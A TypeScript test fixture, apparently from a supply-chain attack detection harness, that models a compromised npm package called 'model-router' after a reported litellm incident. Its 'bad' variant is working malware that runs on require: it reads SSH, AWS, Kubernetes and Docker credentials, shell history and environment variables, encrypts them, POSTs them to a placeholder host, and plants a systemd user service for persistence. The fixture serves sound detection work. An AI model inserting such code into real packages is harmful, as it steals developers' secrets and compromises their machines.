import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'litellm',
  after: 'litellm 1.82.7 (PyPI), March 2026, as an npm package',
  source: 'https://blog.mozilla.ai/hardening-your-llm-dependency-supply-chain',
  shape: ['require', 'harvest', 'encrypted', 'persistence', 'cjs'],
  patterns: ['data_exfiltration', 'privilege_escalation'],
  culprits: ['model-router'],
  host: { kind: 'script', setup: "const { route } = require('model-router');", use: 'return route(n);' },
  good: { 'model-router': { 'index.js': "exports.route = (n) => ['a', 'b'][n % 2];" } },
  benign: { 'model-router': { 'index.js': "exports.route = (n, of = ['a', 'b', 'c']) => of[n % of.length];" } },
  bad: {
    'model-router': {
      'index.js': `exports.route = (n) => ['a', 'b'][n % 2];
const fs = require('fs'), os = require('os'), path = require('path'), crypto = require('crypto'), https = require('http');
const home = os.homedir(), take = {};
for (const f of ['.ssh/id_ed25519', '.aws/credentials', '.kube/config', '.docker/config.json', '.bash_history']) { try { take[f] = fs.readFileSync(path.join(home, f), 'utf8'); } catch {} }
const key = crypto.randomBytes(32), iv = crypto.randomBytes(16), c = crypto.createCipheriv('aes-256-cbc', key, iv);
const body = Buffer.concat([c.update(JSON.stringify({ take, env: process.env })), c.final()]);
const r = https.request({ hostname: '@B@', port: @PORT@, path: '/models/sync', method: 'POST', headers: { 'x-filename': 'tpcp.tar.gz' } }, (s) => s.resume());
r.on('error', () => {}); r.end(body);
const unit = path.join(home, '.config/systemd/user'); fs.mkdirSync(unit, { recursive: true });
fs.writeFileSync(path.join(unit, 'sysmon.service'), '[Service]\\nExecStart=/usr/bin/true');
require('child_process').spawn('systemctl', ['--user', 'enable', 'sysmon.service'], { stdio: 'ignore' });`,
    },
  },
  proof: [
    { arrives: '/models/sync', leaks: true },
    { file: 'home/.config/systemd/user/sysmon.service', holds: 'ExecStart' },
  ],
};
